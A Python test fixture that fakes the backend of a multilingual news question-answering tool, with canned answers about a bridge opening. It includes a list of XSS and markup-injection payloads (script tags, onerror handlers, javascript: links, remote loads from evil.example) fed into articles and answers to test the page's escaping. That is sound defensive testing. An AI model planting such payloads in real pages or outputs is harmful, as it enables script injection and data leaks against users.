"""Operations with canned answers over three short texts, for the page's own tests: no library, no model."""

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ingest.addresses import AddressCheck
from vectorstore.errors import NotFound, Unreadable, UserError
from vectorstore.records import digest
from vectorstore.text import language_of

Json = dict[str, Any]

ARABIC = """افتتحت بلدية المدينة الساحلية جسر الفنار أمام المشاة يوم 12 مارس 2024 بعد أعمال دامت سنتين.

وقالت البلدية إن الجسر يبلغ طوله 180 مترا، وإن كلفته بلغت 24 مليون درهم. وأضافت أن العبور مجاني طوال السنة.

ويربط الجسر الحي القديم بالميناء الجديد، ويتوقع أن يعبره نحو 5000 شخص في اليوم."""
ENGLISH = """The lantern bridge opened to walkers on 12 March 2024 after two years of work, the city council said.

The bridge is 180 metres long [3] and joins the old quarter to the new harbour. It cost 24 million dirhams.

The council expects about 5,000 people to cross it each day. Cycling is not allowed before September."""
FRENCH = """La passerelle du phare a été ouverte aux piétons le 12 mars 2024, après deux ans de travaux.

Longue de 180 mètres, elle relie le vieux quartier au nouveau port. Le passage est gratuit toute l'année.

Selon la mairie, environ 5 000 personnes l'emprunteront chaque jour."""

QUOTES = {
    "ar": (
        "افتتحت بلدية المدينة الساحلية جسر الفنار أمام المشاة يوم 12 مارس 2024",
        "الجسر يبلغ طوله 180 مترا",
    ),
    "en": ("The lantern bridge opened to walkers on 12 March 2024", "The bridge is 180 metres long [3]"),
    "fr": ("La passerelle du phare a été ouverte aux piétons le 12 mars 2024", "Longue de 180 mètres"),
}
ANSWERS = {"ar": "12 مارس 2024", "en": "12 March 2024", "fr": "le 12 mars 2024"}
"""The words of each language's first quotation that answer."""
PACES = {"quick": 0, "slow": 11, "stuck": 30}
"""Words of a question → how many pauses lie between two parts of its answer."""
LEADS = {
    "ar": "وجدت المقاطع الآتية في المقالات:",
    "en": "The stored articles say this of it:",
    "fr": "Voici ce qu'en disent les articles :",
}
REFUSALS = {
    "ar": "لا تجيب المقالات المخزنة عن هذا السؤال. نُظر في ثلاثة مقالات.",
    "en": "The stored articles don't answer this. Three articles were looked at.",
    "fr": "Les articles enregistrés ne répondent pas à cette question. Trois articles ont été examinés.",
}
REMOVED = [
    {"line": "Home · News · Sport", "why": "menu"},
    {"line": "اقرأ أيضا: أخبار أخرى", "why": "related"},
]
# A model's own words in place of an answer, for "evil" questions.
PAYLOADS = (
    '<img src=http://evil.example/a.png onerror="window.hacked=1">',
    "![x](http://evil.example/b.png)",
    "[click](javascript:window.hacked=2)",
    "<script>window.hacked=3</script>",
    "<svg onload=window.hacked=4>",
    '<a href="javascript:window.hacked=5">x</a>',
    "<style>@import url(http://evil.example/c.css)</style>",
    "<link rel=stylesheet href=http://evil.example/d.css>",
    "<iframe src=http://evil.example/e></iframe>",
    "\n\n![y][z]\n\n[z]: http://evil.example/f.png\n\n",
    '<div style="background:url(http://evil.example/g.png)">g</div>',
    "$$\\href{javascript:window.hacked=6}{x}$$ ${window.hacked=7} {{constructor.constructor('window.hacked=8')()}}",
    '```mermaid\nclick A href "http://evil.example/h"\n```',
    "<video poster=http://evil.example/i.png><source src=http://evil.example/j.mp4></video>",
    "<base href=http://evil.example/><form action=http://evil.example/k><button>k</button></form>",
    '" onmouseover="window.hacked=9" x="',
    "<img srcset='http://evil.example/l.png 2x' src=x>",
    "<picture><source srcset=http://evil.example/m.png><img></picture>",
    "<input autofocus onfocus=window.hacked=10>",
    "<details open ontoggle=window.hacked=11><summary>s</summary></details>",
    "[x](data:text/html,<script>window.hacked=12</script>)",
    "<meta http-equiv=refresh content='0;url=http://evil.example/n'>",
    "<object data=http://evil.example/o></object><embed src=http://evil.example/p>",
    "<svg><image href=http://evil.example/q.png /><use href=http://evil.example/r.svg#x /></svg>",
    "<a href='&#106;avascript:window.hacked=13'>x</a> [y](&#106;avascript:window.hacked=14)",
    '![x](//evil.example/s.png "t") <//evil.example/t>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=15></style></mglyph></table></mtext></math>",
    "</textarea></script><script src=//evil.example/u.js></script>",
)


def article(
    title: str, text: str, language: str, published: str | None, source: str = "Isnad sample", **more: Any
) -> Json:
    """An article as ``show`` gives it."""
    article_id, version = digest(title), digest(text)
    base = {
        "article_id": article_id,
        "version": version,
        "versions": [{"version": version, "ingested_at": "2026-01-02T10:00:00+00:00"}],
        "title": title,
        "language": language,
        "published": published,
        "published_from": "byline" if published else None,
        "source": source,
        "url": None,
        "author": None,
        "ingested_at": "2026-01-02T10:00:00+00:00",
        "same_story_as": None,
        "appearances": [],
        "text": text,
        "removed": REMOVED,
        "chunks": [],
    }
    return base | more


def _hostile() -> list[Json]:
    """An article a payload, which stands wherever an article has words of its own."""
    return [
        article(
            f"evil {n} {payload}",
            f"{payload}\n\n{payload}",
            "en",
            "2024-03-01",
            source=f"outlet {n} {payload}",
            author=payload,
            url=f"javascript:window.hacked={n}//{payload}",
            removed=[{"line": payload, "why": "menu"}],
            appearances=[
                {"article_id": "x", "source": payload, "url": url, "published": None}
                for url in (f"javascript:window.hacked={n}//{payload}", f"//{payload}", payload)
            ],
        )
        for n, payload in enumerate(PAYLOADS, start=1)
    ]


class FakeOperations:
    """Three articles, canned answers in their languages, and whatever is added meanwhile."""

    def __init__(self, pause_s: float = 0.1, *, evil: bool = False) -> None:
        self.pause_s = pause_s
        self.asked: list[Json] = []
        self.closed = 0
        three = (
            article("افتتاح جسر الفنار أمام المشاة", ARABIC, "ar", "2024-03-13"),
            article(
                "Lantern bridge opens to walkers",
                ENGLISH,
                "en",
                "2024-03-14",
                url="https://news.example/bridge",
            ),
            article("La passerelle du phare ouvre aux piétons", FRENCH, "fr", None),
        )
        self.stored = {each["article_id"]: each for each in (*three, *(_hostile() if evil else ()))}

    def ask(
        self, question: str, *, history: list[dict[str, str]] | None = None, **options: Any
    ) -> Iterator[Json]:
        """An answer that grows sentence by sentence."""
        self.asked.append({"question": question, "history": history or [], **options})
        if "fail" in question:
            raise UserError("the model can't be reached: start it, or use --llm none")
        try:
            for told in self._growing(question):
                yield told | self._window(options, told["window"])
        finally:
            self.closed += 1

    @staticmethod
    def _window(options: Json, told: Json | None) -> Json:
        """The window that the options give, else the question's; one open at both ends is none."""
        first, last = options.get("date_from"), options.get("date_to")
        if (first, last) == ("0001-01-01", "9999-12-31"):
            return {"window": None}
        given = {"from": first, "to": last, "understood_from": f"--from {first} --to {last}"}
        return {"window": given if first or last else told}

    def _of(self, language: str) -> Json:
        return next(each for each in self.stored.values() if each["language"] == language)

    def _growing(self, question: str) -> Iterator[Json]:
        language = {"ar": "ar", "fr": "fr"}.get(language_of(question), "en")
        if any(word in question for word in ("Peru", "Pérou", "بيرو")):
            yield self._refusal(question, language)
            return
        if "evil" in question:
            yield self._evil(question)
            return
        source = self._of(language)
        parts = [LEADS[language] + "\n\n"]
        citations, sentences = [], []
        for n, quote in enumerate(QUOTES[language], start=1):
            line = f"«{quote}»".replace("[3]", "\\[3\\]") + f" [{n}]"
            start = sum(map(len, parts)) + 2
            parts.append(f"- {line}\n")
            citations.append(
                self._passage(source, quote) | {"n": n, "support": "supported" if n == 1 else "partial"}
            )
            sentences.append(
                {
                    "start": start,
                    "end": start + len(line),
                    "cites": [n],
                    "support": citations[-1]["support"],
                    "missing": [] if n == 1 else ["2025"],
                }
            )
        for k in range(1, len(parts) + 1):
            time.sleep(self.pause_s * next((n for word, n in PACES.items() if word in question), 1))
            yield self._answer(
                question,
                language,
                answer="".join(parts[:k]),
                citations=citations[: k - 1],
                sentences=sentences[: k - 1],
                timings_ms={"answer": 12} if k == len(parts) else {},
            )

    def _answer(self, question: str, language: str, **more: Any) -> Json:
        base = {
            "question": question,
            "rewritten": question,
            "language": language,
            "mode": "extractive",
            "answer": "",
            "abstained": False,
            "reason": None,
            "confidence": None,
            "notice": None,
            "window": {"from": "2024-01-01", "to": "2024-12-31", "understood_from": "2024"}
            if "2024" in question
            else None,
            "people": [{"asked": "Fanar", "matched": ["الفنار", "فنار"]}] if "Fanar" in question else [],
            "citations": [],
            "sentences": [],
            "nearest": [],
            "undated": [],
            "articles_considered": len(self.stored),
            "model": None,
            "timings_ms": {},
        }
        return base | more

    def _passage(self, source: Json, quote: str) -> Json:
        start = source["text"].index(quote)
        also = [
            {
                "article_id": "x",
                "source": "Second sample",
                "url": "https://second.example/a",
                "published": None,
            },
            {
                "article_id": self._of("fr")["article_id"],
                "source": "Third sample",
                "url": None,
                "published": None,
            },
        ]
        keep = ("article_id", "version", "title", "source", "url", "published")
        return {key: source[key] for key in keep} | {
            "chunk_id": "c",
            "event": {"from": "2024-03-12", "to": "2024-03-12"},
            "quote": quote,
            "highlight": self._highlight(quote),
            "start": start,
            "end": start + len(quote),
            "also_in": also if source["language"] == "ar" else source["appearances"],
        }

    @staticmethod
    def _highlight(quote: str) -> Json | None:
        words = next((each for each in ANSWERS.values() if each in quote), "")
        at = quote.find(words)
        return {"start": at, "end": at + len(words)} if words else None

    def _refusal(self, question: str, language: str) -> Json:
        by_language = {each["language"]: each for each in self.stored.values()}
        nearest = [self._passage(by_language[code], QUOTES[code][0]) for code in ("ar", "en")]
        return self._answer(
            question,
            language,
            answer=REFUSALS[language],
            abstained=True,
            reason="nothing_relevant",
            nearest=nearest,
            undated=[self._passage(by_language["fr"], QUOTES["fr"][1])],
            timings_ms={"answer": 3},
        )

    def _evil(self, question: str) -> Json:
        text = "".join(f"{payload} [{n}]\n\n" for n, payload in enumerate(PAYLOADS, start=1))
        sources = [each for each in self.stored.values() if each["title"].startswith("evil")]
        citations = [
            self._passage(each, each["text"][:400]) | {"n": n, "support": "unsupported"}
            for n, each in enumerate(sources or list(self.stored.values())[:1], start=1)
        ]
        return self._answer(
            question,
            "en",
            answer=text,
            notice=PAYLOADS[0],
            citations=citations,
            people=[{"asked": PAYLOADS[0], "matched": [PAYLOADS[3]]}],
            sentences=[
                {
                    "start": 0,
                    "end": len(text),
                    "cites": [1],
                    "support": "unsupported",
                    "missing": [PAYLOADS[0]],
                }
            ],
            timings_ms={"answer": 1},
        )

    def search(self, query: str, **options: Any) -> Json:
        """Nothing is searched here."""
        return {"query": query, "window": None, "hits": []}

    def ingest(
        self, inputs: list[str], *, published: str | None = None, source: str | None = None
    ) -> Iterator[Json]:
        """One line a file; empty ones are rejected."""
        yield {"total": len(inputs)}
        for path in inputs:
            time.sleep(self.pause_s)
            if "://" in path:
                yield self._line(path, "failed", reason=self._refused(path))
                continue
            text = Path(path).read_text(encoding="utf-8", errors="replace")
            if text.strip():
                yield self._stored(path, Path(path).stem, text, published, source)
            else:
                yield self._line(path, "rejected", reason=f"{path} is empty: nothing to store")

    @staticmethod
    def _refused(address: str) -> str:
        """Why an address of this machine isn't fetched, in the program's own words."""
        try:
            AddressCheck().target(address)
        except Unreadable as error:
            return str(error)
        raise AssertionError(address)

    def ingest_text(
        self, text: str, *, title: str | None = None, published: str | None = None, source: str | None = None
    ) -> Json:
        """Store it."""
        if published == "yesterday":
            raise UserError("yesterday isn't a date: write it as 2024-10-03")
        return self._stored("-", title or text[:40], text, published, source)

    def _stored(self, name: str, title: str, text: str, published: str | None, source: str | None) -> Json:
        new = article(title, text, language_of(text), published, source or "")
        known = new["article_id"] in self.stored
        self.stored[new["article_id"]] = new
        keep = ("article_id", "version", "title", "language", "published", "published_from", "source", "url")
        return self._line(name, "unchanged" if known else "added") | {key: new[key] for key in keep}

    @staticmethod
    def _line(name: str, status: str, reason: str | None = None) -> Json:
        nothing = dict.fromkeys(("article_id", "version", "title", "language", "published", "published_from"))
        nothing |= dict.fromkeys(("source", "url", "same_story_as"))
        return {"input": name, "status": status, **nothing, "chunks": 1, "removed_lines": 0, "reason": reason}

    def articles(self) -> Json:
        """Newest first, undated last."""
        ranked = sorted(self.stored.values(), key=lambda each: each["published"] or "", reverse=True)
        return {
            "articles": [
                {k: v for k, v in each.items() if k not in ("text", "removed", "chunks")} for each in ranked
            ]
        }

    def show(self, article_id: str, *, version: str | None = None) -> Json:
        """The one version there is."""
        if article_id not in self.stored or version not in (None, self.stored[article_id]["version"]):
            raise NotFound(f"no article {article_id}: `isnad articles` lists what is stored")
        return self.stored[article_id]

    def set(self, article_id: str, **given: str | None) -> Json:
        """Correct it."""
        self.stored[article_id] |= {key: value for key, value in given.items() if value is not None}
        return self.stored[article_id]

    def remove(self, article_ids: list[str]) -> Json:
        """Take them out."""
        gone = [each for each in article_ids if self.stored.pop(each, None)]
        return {"removed": gone, "unknown": [each for each in article_ids if each not in gone]}

    def verify(self, answer: Json | str) -> Json:
        """What cites nothing isn't carried."""
        text = answer if isinstance(answer, str) else answer["answer"]
        carried = "[1]" in text
        support = "supported" if carried else "unsupported"
        cited = {"n": 1, "valid": True, "current": False, "support": "supported"}
        sentence = {"start": 0, "end": len(text), "cites": [1] * carried, "support": support, "missing": []}
        return {"citations": [cited] * carried, "sentences": [sentence], "ok": carried}

    def model(self, llm: str | None = None) -> Json:
        """None is set; all others are elsewhere."""
        return {"model": llm, "local": llm is None}

    def reindex(self) -> Iterator[Json]:
        """Nothing to embed."""
        yield {"articles": len(self.stored), "chunks": 0, "seconds": 0.0}

    def doctor(self, *, fix: bool = False) -> Json:
        """All well."""
        return {"ok": True, "checks": []}
